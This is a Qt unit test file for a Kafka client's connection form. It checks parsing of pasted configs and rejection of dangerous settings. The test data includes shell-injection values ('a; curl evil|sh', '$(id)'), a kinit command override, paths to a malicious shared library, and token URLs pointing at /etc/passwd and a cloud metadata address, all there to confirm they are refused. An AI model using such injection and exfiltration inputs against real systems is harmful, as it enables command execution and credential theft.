// What is pasted, what the form makes of it, and what it refuses.
#include "models/connections/connection_form.h"
#include "models/connections/connection_text.h"
#include "models/connections/services.h"

#include "tests/support/test_registry.h"

#include <QTest>

using namespace models;
using namespace models::connections;
using namespace Qt::StringLiterals;

namespace {

PastedConnection pasted(const QString& text) {
    auto result = parsePasted(text);
    if (!result)
        qWarning("%s", qPrintable(result.error().toString()));
    return result.value_or(PastedConnection{});
}
QString setting(const client::ClientConfig& config, const char* name) { return config.properties.value(QLatin1String(name)); }
QStringList fieldsOf(const FormResult& result) {
    QStringList fields;
    for (const auto& problem : result.problems)
        fields.append(problem.field);
    return fields;
}

} // namespace

class ConnectionFormTest : public QObject {
    Q_OBJECT
private slots:
    // ---- pasting ----------------------------------------------------------------------------------------------------------------
    void serversWithSchemes() {
        const auto text = pasted(u"kafka+ssl://a.example.org:9096,kafka+ssl://b.example.org:9096"_qs);
        QCOMPARE(text.config.bootstrapServers, u"a.example.org:9096,b.example.org:9096"_qs);
        QCOMPARE(setting(text.config, "security.protocol"), u"SSL"_qs);
        QCOMPARE(pasted(u"a:1, b:2"_qs).config.servers().size(), 2);
        QVERIFY(!parsePasted(u"just some words"_qs));
        QVERIFY(!parsePasted({}));
    }

    void javaClientProperties() {
        const auto text = pasted(u"# from the wiki\nbootstrap.servers=pkc-1.eu.aws.confluent.cloud:9092\nsecurity.protocol=SASL_SSL\nsasl.mechanism=PLAIN\n"
                                 "sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required \\\n  username=\"KEY\" password=\"SE\\\"CRET\";\n"
                                 "key.serializer=org.apache.kafka.common.serialization.StringSerializer\n"_qs);
        QCOMPARE(text.service, u"confluent"_qs);
        const auto form = formOf(text.config);
        QVERIFY(form.protocol == Protocol::SaslTls && form.mechanism == Mechanism::Plain);
        QCOMPARE(form.user, u"KEY"_qs);
        QCOMPARE(form.password, u"SE\"CRET"_qs);
        QVERIFY(form.further.isEmpty());
    }

    // librdkafka writes these into a command line for kinit.
    void whatAShellCouldReadIsRefused() {
        for (const char* setting : {"sasl.kerberos.principal=a; curl evil|sh", "sasl.kerberos.keytab=/x$(id)", "sasl.kerberos.service.name=kafka`id`", "sasl.kerberos.principal=-S"})
            QVERIFY2(!parsePasted(u"bootstrap.servers=a:1\nsecurity.protocol=SASL_SSL\n"_qs + QLatin1String(setting)), setting);
        client::ClientConfig config;
        config.bootstrapServers = u"a:1"_qs;
        config.set(u"sasl.kerberos.principal"_qs, u"a; curl evil|sh"_qs);
        QCOMPARE(config.check().error().what, u"sasl.kerberos.principal"_qs); // from a file of the command line, too
        ConnectionForm form;
        form.servers = u"a:1"_qs;
        form.protocol = Protocol::SaslTls;
        form.mechanism = Mechanism::Kerberos;
        form.kerberosKeytab = u"/etc/krb5.keytab"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"kerberosPrincipal"_qs});
        form.kerberosPrincipal = u"kafka/host-1.example.org@EXAMPLE.ORG"_qs;
        QVERIFY(configOf(form).problems.isEmpty());
        form.kerberosPrincipal = u"a b"_qs;
        QVERIFY(fieldsOf(configOf(form)).contains(u"kerberosPrincipal"_qs));
    }

    void javaMskIam() {
        const auto text = pasted(u"bootstrap.servers=b-1.demo.abc123.c2.kafka.eu-west-1.amazonaws.com:9098\nsecurity.protocol=SASL_SSL\nsasl.mechanism=AWS_MSK_IAM\n"
                                 "sasl.jaas.config=software.amazon.msk.auth.iam.IAMLoginModule required awsProfileName=\"work\";\n"
                                 "sasl.client.callback.handler.class=software.amazon.msk.auth.iam.IAMClientCallbackHandler\n"_qs);
        QCOMPARE(text.service, u"msk"_qs);
        auto form = formOf(text.config);
        QVERIFY(form.mechanism == Mechanism::MskIam);
        QCOMPARE(form.awsProfile, u"work"_qs);
        QVERIFY(form.further.isEmpty());
        const auto result = configOf(form);
        QVERIFY2(result.problems.isEmpty(), qPrintable(fieldsOf(result).join(u',')));
        QCOMPARE(formOf(result.config), form);

        form.servers = u"kafka.example.org:9098"_qs; // behind a name of one's own
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"awsRegion"_qs});
        form.awsRegion = u"eu-west-1"_qs;
        QVERIFY(configOf(form).problems.isEmpty());
        form.awsKeyId = u"AKIDEXAMPLE"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"awsSecret"_qs});
        QVERIFY(configOf(form, {u"aws.secret.access.key"_qs}).problems.isEmpty()); // kept in a vault
        form.awsSecret = u"s"_qs;
        form.awsSession = u"t"_qs;
        const auto keys = configOf(form);
        QVERIFY(keys.problems.isEmpty());
        QCOMPARE(keys.config.secrets.keys(), (QStringList{u"aws.secret.access.key"_qs, u"aws.session.token"_qs}));
        form.protocol = Protocol::SaslPlaintext; // the token is a password for a quarter of an hour
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"protocol"_qs});
    }

    void amazonsPortsSayHowToLogIn() {
        client::ClientConfig config;
        config.bootstrapServers = u"b-1.demo.abc123.c2.kafka.eu-west-1.amazonaws.com:9098"_qs;
        applyService(u"msk"_qs, config);
        QCOMPARE(setting(config, "sasl.mechanisms"), u"AWS_MSK_IAM"_qs);
        config.bootstrapServers = u"b-1.demo.abc123.c2.kafka.eu-west-1.amazonaws.com:9096"_qs;
        applyService(u"msk"_qs, config);
        QCOMPARE(setting(config, "sasl.mechanisms"), u"SCRAM-SHA-512"_qs);
    }

    void javaOAuth() {
        const auto form = formOf(pasted(u"bootstrap.servers=a:1\nsecurity.protocol=SASL_SSL\nsasl.mechanism=OAUTHBEARER\nsasl.oauthbearer.token.endpoint.url=https://id.example.org/token\n"
                                        "sasl.jaas.config=org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required clientId=\"me\" clientSecret=\"s\" scope=\"kafka\";"_qs).config);
        QVERIFY(form.mechanism == Mechanism::OAuthBearer);
        QCOMPARE(form.clientId, u"me"_qs);
        QCOMPARE(form.clientSecret, u"s"_qs);
        QCOMPARE(form.scope, u"kafka"_qs);
        QVERIFY(form.user.isEmpty());
    }

    void eventHubsConnectionString() {
        const QString line = u"Endpoint=sb://shop.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=planted="_qs;
        const auto text = pasted(line);
        QCOMPARE(text.service, u"eventhubs"_qs);
        QCOMPARE(text.config.bootstrapServers, u"shop.servicebus.windows.net:9093"_qs);
        QCOMPARE(setting(text.config, "sasl.username"), u"$ConnectionString"_qs);
        QCOMPARE(text.config.secrets.value(u"sasl.password"_qs), line);
        QVERIFY(text.note.isEmpty());
        QVERIFY(!pasted(line + u";EntityPath=orders"_qs).note.isEmpty());
    }

    void herokuVariables() {
        const QString pem = u"-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----"_qs;
        const QString key = u"-----BEGIN RSA PRIVATE KEY-----\nplanted\n-----END RSA PRIVATE KEY-----"_qs;
        const auto text = pasted(u"KAFKA_CLIENT_CERT='%1'\nKAFKA_CLIENT_CERT_KEY='%2'\nKAFKA_PREFIX=russian-12345.\nKAFKA_TRUSTED_CERT='%1'\nKAFKA_URL=kafka+ssl://ec2-1.example.org:9096,kafka+ssl://ec2-2.example.org:9096\n"_qs.arg(pem, key));
        QCOMPARE(text.service, u"heroku"_qs);
        QCOMPARE(text.config.servers().size(), 2);
        const auto form = formOf(text.config);
        QVERIFY(form.protocol == Protocol::Tls && !form.checkHostName);
        QCOMPARE(form.authority.text, pem);
        QCOMPARE(form.key.text, key);
        QVERIFY(text.config.secrets.contains(u"ssl.key.pem"_qs));
        QVERIFY(text.note.contains(u"russian-12345."_qs));
    }

    /// Settings that run code, or read what whoever wrote the text wants read.
    void hostileSettingsAreRefused_data() {
        QTest::addColumn<QString>("line");
        for (const char* line : {"sasl.kerberos.kinit.cmd=touch /tmp/x", "plugin.library.paths=/tmp/evil.so", "ssl.engine.location=/tmp/evil.so", "sasl.password=${env:SECRET}",
                 "sasl.oauthbearer.token.endpoint.url=file:///etc/passwd", "sasl.oauthbearer.token.endpoint.url=http://169.254.169.254/token", "no.such.property=1"})
            QTest::newRow(line) << QString::fromLatin1(line);
    }
    void hostileSettingsAreRefused() {
        QFETCH(QString, line);
        QVERIFY(!parsePasted(u"bootstrap.servers=a:1\n"_qs + line));
    }

    void errorsDoNotQuoteSecrets() {
        const auto bad = parsePasted(u"bootstrap.servers=a:1\nsasl.password=x\nplanted-secret-7261\n"_qs);
        QVERIFY(!bad && !bad.error().toString().contains(u"planted"_qs));
    }

    // ---- the form ---------------------------------------------------------------------------------------------------------------
    void everyFormComesBack_data() {
        QTest::addColumn<int>("protocol");
        QTest::addColumn<int>("mechanism");
        for (int protocol = 0; protocol < 4; ++protocol)
            for (int mechanism = 0; mechanism < 5; ++mechanism)
                QTest::addRow("%d %d", protocol, mechanism) << protocol << mechanism;
    }
    void everyFormComesBack() {
        QFETCH(int, protocol);
        QFETCH(int, mechanism);
        ConnectionForm form;
        form.servers = u"127.0.0.1:9092"_qs;
        form.protocol = static_cast<Protocol>(protocol);
        if (usesSasl(form.protocol)) {
            form.mechanism = static_cast<Mechanism>(mechanism);
            if (form.mechanism == Mechanism::OAuthBearer) {
                form.tokenUrl = u"https://id.example.org/token"_qs;
                form.clientId = u"me"_qs;
                form.clientSecret = u"secret"_qs;
                form.scope = u"kafka"_qs;
                form.extensions = u"logicalCluster=lkc-1"_qs;
            } else if (form.mechanism == Mechanism::Kerberos) {
                form.kerberosService = u"kafka"_qs;
                form.kerberosPrincipal = u"me@EXAMPLE.ORG"_qs;
                form.kerberosKeytab = u"/etc/me.keytab"_qs;
            } else {
                form.user = u"alice"_qs;
                form.password = u"secret"_qs;
            }
        }
        if (usesTls(form.protocol)) {
            form.authority.text = u"-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----"_qs;
            form.checkHostName = false;
        }
        form.further = u"client.rack=eu-1"_qs;
        const auto result = configOf(form);
        QVERIFY2(result.problems.isEmpty(), result.problems.isEmpty() ? "" : qPrintable(result.problems[0].text));
        QVERIFY(formOf(result.config) == form);
        for (auto it = result.config.properties.begin(); it != result.config.properties.end(); ++it)
            QVERIFY2(!it.value().contains(u"secret"_qs), qPrintable(it.key()));
    }

    void whatIsMissingIsNamedAtItsField() {
        ConnectionForm form;
        form.protocol = Protocol::SaslTls;
        QCOMPARE(fieldsOf(configOf(form)), (QStringList{u"servers"_qs, u"user"_qs, u"password"_qs}));
        form.servers = u"a:1"_qs;
        form.user = u"alice"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"password"_qs});
        QVERIFY(configOf(form, {u"sasl.password"_qs}).problems.isEmpty()); // it is kept elsewhere
        form.password = u"p"_qs;
        form.certificate.text = u"-----BEGIN CERTIFICATE-----"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"key"_qs});
        form.certificate = {{}, u"/no/such/file.pem"_qs};
        form.key.text = u"-----BEGIN PRIVATE KEY-----"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"certificate"_qs});
    }

    void hostileFurtherPropertiesAreRefused() {
        ConnectionForm form;
        form.servers = u"a:1"_qs;
        form.further = u"sasl.kerberos.kinit.cmd=touch /tmp/x"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"further"_qs});
    }

    void aReadablePasswordIsRefusedUntilItIsAllowed() {
        ConnectionForm form;
        form.servers = u"kafka.example.org:9092"_qs;
        form.protocol = Protocol::SaslPlaintext;
        form.mechanism = Mechanism::Plain;
        form.user = form.password = u"x"_qs;
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"protocol"_qs});
        form.servers = u"localhost:9092,kafka.example.org:9092"_qs; // one is enough
        QCOMPARE(fieldsOf(configOf(form)), QStringList{u"protocol"_qs});
        form.readablePassword = true;
        QVERIFY(configOf(form).problems.isEmpty());
        QCOMPARE(configOf(form).warnings.size(), 1);
        form.readablePassword = false;
        form.servers = u"localhost:9092,127.0.0.1:9093"_qs;
        QVERIFY(configOf(form).problems.isEmpty() && configOf(form).warnings.isEmpty());
        form.servers = u"kafka.example.org:9092"_qs;
        form.mechanism = Mechanism::Scram512; // proves that it knows the password, does not send it
        QVERIFY(configOf(form).problems.isEmpty());
        QCOMPARE(configOf(form).warnings.size(), 1);
    }

    void everyServiceMakesAUsableForm() {
        for (const auto& one : services()) {
            client::ClientConfig config;
            config.bootstrapServers = u"a:1"_qs;
            applyService(one.id, config);
            QVERIFY2(config.check().has_value(), qPrintable(one.name));
            QVERIFY2(one.id.isEmpty() || !one.hint.isEmpty(), qPrintable(one.name));
        }
        QCOMPARE(serviceOf(u"b-1.demo.kafka.eu-west-1.amazonaws.com:9096"_qs), u"msk"_qs);
        QCOMPARE(serviceOf(u"localhost:9092"_qs), QString());
    }
};

SAMSA_TEST(ConnectionFormTest)
#include "connection_form_test.moc"
